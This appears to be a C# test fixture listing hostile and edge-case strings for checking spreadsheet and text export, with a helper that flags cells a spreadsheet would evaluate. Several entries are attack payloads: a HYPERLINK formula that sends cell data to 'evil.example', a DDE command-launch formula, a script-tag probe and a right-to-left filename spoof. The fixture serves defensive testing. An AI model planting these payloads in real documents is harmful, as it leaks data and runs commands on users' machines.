namespace HeymarketPortal.Tests;

/// <summary>What people, customers and attackers put into texts and names.</summary>
internal static class HostileTexts
{
    public static readonly string[] All =
    [
        "=1+1", "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")", "=cmd|' /C calc'!A0", "+1+1", "+15105550142", "+", "-2+3", "-", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠x",
        "'=1+1", "'", "''", "'tis", "a,b;c", "say \"hi\"", "\"", "line one\r\nline two\nthree\rfour", "  blanks  ", " ", "; =1",
        "9223372036854775807", "123456789012", "12345678901", "007", "0", "1E5", "2026-11-23", "+1 510 555 0142", "+44 7911 123456",
        "Zoë ❄️ 👩‍👩‍👧‍👦 🇺🇸", "שלום עולם, مرحبا", "\u202Egnp.exe", "<script>alert(1)</script>", "<b>&amp;&lt;]]>", "</t></is></c>", "_x0041_", "_x005F_x0041_", "_xZZZZ_", "_",
        "bell \u0007 and escape \u001b[31m", "\u0001\u0008\u000b\u000c\u001f", "\ufffe\uffff", "\u0085\u2028\u2029", "Ā\u0301\u200d\u200b", string.Concat(Enumerable.Repeat("👋 hello ", 200)),
    ];

    /// <summary>A spreadsheet would compute what begins so; what follows a phone number's plus computes nothing.</summary>
    public static bool IsComputed(string cell) => cell.Length > 0 && "=+-@\t\r\n＝＋－＠".Contains(cell[0]) && cell is not ("+1 510 555 0142" or "+44 7911 123456");
}
